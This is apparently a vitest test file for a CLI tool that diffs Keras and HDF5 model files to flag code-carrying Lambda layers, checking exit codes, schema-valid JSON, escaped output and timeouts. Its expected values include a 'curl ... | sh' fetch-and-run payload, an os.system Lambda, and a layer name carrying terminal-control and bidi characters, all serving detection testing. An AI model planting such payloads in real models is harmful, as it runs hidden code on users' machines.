/**
 * `lambdalens diff`: exit codes, JSON valid against schemas/diff.schema.json (every JSON output here is
 * validated), text output with file-derived text made inert.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main';
import { formatDiffText } from '../../src/cli/format-diff';
import type { ModelDiff } from '../../src/core/diff/types';
import { dfx, diffFiles, fx, root } from './diff-sides';

const schema = JSON.parse(readFileSync(path.join(root, 'schemas/diff.schema.json'), 'utf8')) as object;
const validate = new Ajv2020({ allErrors: true, strict: true }).compile(schema);

function valid(diff: unknown): ModelDiff {
  const ok = validate(diff);
  expect(validate.errors ?? [], JSON.stringify(validate.errors, null, 1)).toEqual([]);
  expect(ok).toBe(true);
  return diff as ModelDiff;
}

async function run(args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await main(args, (s) => (out += s), (s) => (err += s));
  return { code, out, err };
}

async function json(a: string, b: string): Promise<{ code: number; diff: ModelDiff }> {
  const r = await run(['diff', a, b, '--json', '--no-hash']);
  return { code: r.code, diff: valid(JSON.parse(r.out)) };
}

describe('lambdalens diff (in process)', () => {
  it('exit 1 and the changed constant when a payload changed', async () => {
    const { code, diff } = await json(dfx('echo_a.keras'), dfx('curl_sh.keras'));
    expect(code).toBe(1);
    expect(diff.schema).toBe('lambdalens/diff@1');
    const p = diff.differences.find((d) => d.kind === 'payload-changed');
    expect(p && p.kind === 'payload-changed' && p.changes[0].to).toBe("'curl http://127.0.0.1:9/p | sh'");
  });
  it('exit 1 for an inserted Lambda and for a module-import activation', async () => {
    expect((await json(fx('func_lambda_benign.keras'), dfx('lambda_inserted.keras'))).code).toBe(1);
    expect((await json(fx('func_lambda_benign.keras'), dfx('activation_module.keras'))).code).toBe(1);
  });
  it('exit 0 for the same model saved twice, a renamed layer, and an .h5 against its .keras', async () => {
    expect((await json(dfx('echo_a.keras'), dfx('echo_a_resaved.keras'))).code).toBe(0);
    expect((await json(fx('func_lambda_benign.keras'), dfx('renamed.keras'))).code).toBe(0);
    expect((await json(fx('nested_submodel_lambda.h5'), fx('nested_submodel_lambda.keras'))).code).toBe(0);
  });
  it('exit 2 for a file that cannot be inspected (the diff still says what it could) and for bad usage', async () => {
    const { code, diff } = await json(fx('README.md'), fx('no_lambda.keras'));
    expect(code).toBe(2);
    expect(diff.unmatched.some((u) => u.side === 'a' && u.what === 'the file')).toBe(true);
    expect((await run(['diff', fx('no_lambda.keras')])).code).toBe(2);
    expect((await run(['diff', fx('no_lambda.keras'), fx('no_lambda.h5'), fx('two_lambdas.h5')])).code).toBe(2);
    expect((await run(['diff', fx('no_lambda.keras'), fx('no_lambda.h5'), '--frobnicate'])).code).toBe(2);
    expect((await run(['diff', fx('no_lambda.keras'), fx('no_lambda.h5'), '--timeout', 'x'])).code).toBe(2);
  });
  it('the text output puts code-carrying differences first, marked', async () => {
    const { code, out } = await run(['diff', fx('func_lambda_benign.keras'), dfx('lambda_inserted.keras'), '--no-hash']);
    expect(code).toBe(1);
    const lines = out.split('\n');
    expect(lines[2]).toMatch(/^CODE CHANGED/);
    expect(lines[4]).toBe('! layer added: func_lambda_benign/extra (Lambda) at config.json/config/layers/3');
    expect(out).toContain("      b: lambda x: (__import__('os').system('echo a'), x)[1]");
    expect(out).toContain('  inbound changed: func_lambda_benign/probs: [scale_by_two[0][0]] → [extra[0][0]]');
    expect(out).toMatch(/note: Weights are never read/);
  });
  it('file-derived text reaches the terminal escaped (no raw control or bidi characters)', async () => {
    const { out, diff } = await (async () => {
      const r = await run(['diff', fx('func_lambda_benign.keras'), dfx('hostile_name.keras'), '--no-hash']);
      return { out: r.out, diff: valid(JSON.parse((await run(['diff', fx('func_lambda_benign.keras'), dfx('hostile_name.keras'), '--json', '--no-hash'])).out)) };
    })();
    expect(diff.differences.find((d) => d.kind === 'layer-renamed')).toMatchObject({ b: 'func_lambda_benign/dense\u001b[2J\u202ehidden', by: 'structure' });
    expect(out).toContain('func_lambda_benign/dense\\u001b[2J\\u202ehidden');
    expect(out.replace(/\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/);
  });
});

describe('node bin/lambdalens.mjs diff (bundled, scans in the isolated worker)', () => {
  beforeAll(() => {
    execFileSync(process.execPath, [path.join(root, 'scripts/build-cli.mjs')], { cwd: root });
  });
  const bin = (args: string[]) => spawnSync(process.execPath, [path.join(root, 'bin/lambdalens.mjs'), 'diff', ...args], { encoding: 'utf8' });
  it('gives the same diff as the library', () => {
    const res = bin([fx('mal_os_system.h5'), fx('mal_os_system.keras'), '--json']);
    expect(res.status).toBe(0);
    const diff = valid(JSON.parse(res.stdout));
    expect(diff.summary).toMatchObject({ codeChanged: false, architectureChanged: false, payloads: { a: 1, b: 1, same: 1 } });
    expect(diff.a.sha256).toMatch(/^[0-9a-f]{64}$/);
  });
  it('a file that hangs the HDF5 library is timed out: exit 2, and the diff says why', () => {
    const hang = path.join(root, 'tests/fixtures/regressions/hdf5-unchecked-heap-hang.h5');
    const started = Date.now();
    const res = bin([hang, fx('two_lambdas.h5'), '--timeout', '3', '--json', '--no-hash']);
    expect(Date.now() - started).toBeLessThan(30_000);
    expect(res.status).toBe(2);
    const diff = valid(JSON.parse(res.stdout));
    expect(diff.a.error?.code).toBe('timeout');
    expect(diff.b.verdict).toBe('dangerous');
    expect(diff.unmatched.find((u) => u.side === 'a' && u.what === 'the file')?.reason).toMatch(/timed out/);
  });
});

describe('the schema', () => {
  it('rejects what the records cannot be', async () => {
    const diff = JSON.parse(JSON.stringify(await diffFiles(dfx('echo_a.keras'), dfx('curl_sh.keras')))) as Record<string, unknown> & { differences: Record<string, unknown>[] };
    expect(validate(diff)).toBe(true);
    expect(validate({ ...diff, schema: 'lambdalens/diff@2' })).toBe(false);
    expect(validate({ ...diff, differences: [{ ...diff.differences[0], kind: 'payload-renamed' }] })).toBe(false);
    expect(validate({ ...diff, differences: [{ ...diff.differences[0], codeCarrying: false }] })).toBe(false);
    const { changes: _dropped, ...noChanges } = diff.differences[0];
    expect(validate({ ...diff, differences: [noChanges] })).toBe(false);
  });
});

describe('every diff the core tests make is valid against the schema', () => {
  const pairs: [string, string][] = [
    [dfx('echo_a.keras'), dfx('echo_a_resaved.keras')],
    [fx('func_lambda_benign.keras'), dfx('renamed.keras')],
    [dfx('lambda_inserted.keras'), fx('func_lambda_benign.keras')],
    [fx('func_lambda_benign.h5'), dfx('func_lambda_benign_k2.h5')],
    [fx('resnet_like_graph.h5'), fx('resnet_like_graph.keras')],
    [fx('crafted/external_kernel_passwd.h5'), fx('no_lambda.h5')],
    [fx('savedmodel/keras_metadata_example.pb'), fx('no_lambda.keras')],
  ];
  it.each(pairs)('%s against %s', async (a, b) => {
    const diff = valid(JSON.parse(JSON.stringify(await diffFiles(a, b))));
    expect(formatDiffText(diff).length).toBeGreaterThan(0);
  });
});
